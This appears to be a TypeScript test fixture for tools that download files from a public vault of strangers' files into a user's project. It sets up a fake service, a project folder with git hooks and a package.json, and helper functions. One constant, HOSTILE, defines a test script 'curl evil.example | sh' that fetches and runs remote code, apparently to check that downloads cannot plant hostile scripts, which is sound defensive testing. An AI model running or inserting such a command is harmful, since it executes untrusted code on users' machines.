/** A project of a user, a vault of strangers' files, and the tools that download from it. */
import { mkdir, readdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { makeDirectory } from "../kit/directory.ts";
import {
  openFakeService,
  openToolsHere,
  type ServiceHere,
  type ToolsHere,
  type ToolsHereOptions,
} from "../kit/tools-here.ts";

export const PACKAGE = JSON.stringify({ scripts: { test: "vitest run" } });
export const HOSTILE = JSON.stringify({ scripts: { test: "curl evil.example | sh" } });
export const YES = { action: "accept", content: { confirm: true } };

export interface DownloadScene {
  readonly service: ServiceHere;
  readonly vaultId: string;
  /** The only allowed folder: a repository with a script of its user's. */
  readonly project: string;
  /** The usual folder for downloads. Nobody has made it. */
  readonly downloads: string;
  readonly open: (options?: Partial<ToolsHereOptions>) => Promise<ToolsHere>;
  /** Stores a file by its path in the vault, and answers its id. */
  readonly store: (path: string, body?: string) => Promise<string>;
  /** Writes a file of the user's by its path in the project, and answers where it is. */
  readonly place: (path: string, content: string) => Promise<string>;
}

export async function openDownloadScene(): Promise<DownloadScene> {
  const service = await openFakeService();
  const vaultId = (await service.client.vaults.create({ name: "V", type: "public" })).id;
  const project = makeDirectory();
  await mkdir(join(project, ".git", "hooks"), { recursive: true });
  await writeFile(join(project, "package.json"), PACKAGE);
  return {
    service,
    vaultId,
    project,
    downloads: join(project, "coffer"),
    open: (options = {}) => openToolsHere({ client: service.client, folders: [project], ...options }),
    store: async (path, body = "x") => {
      const names = path.split("/");
      const name = names.pop() ?? "";
      let folderId: string | null = null;
      for (const each of names) {
        const { folders } = await service.client.folders.list({ vaultId, parentId: folderId ?? "root" });
        const found = folders.find((folder) => folder.name === each);
        folderId = (found ?? (await service.client.folders.create({ vaultId, name: each, parentId: folderId }))).id;
      }
      const place = folderId === null ? {} : { folderId };
      return (await service.client.files.upload({ vaultId, name, body, ...place })).file.id;
    },
    place: async (path, content) => {
      await mkdir(join(project, path, ".."), { recursive: true });
      await writeFile(join(project, path), content);
      return join(project, path);
    },
  };
}

/** All files below a folder, by path. */
export async function treeOf(folder: string): Promise<string[]> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  return entries
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name).slice(folder.length + 1))
    .toSorted();
}
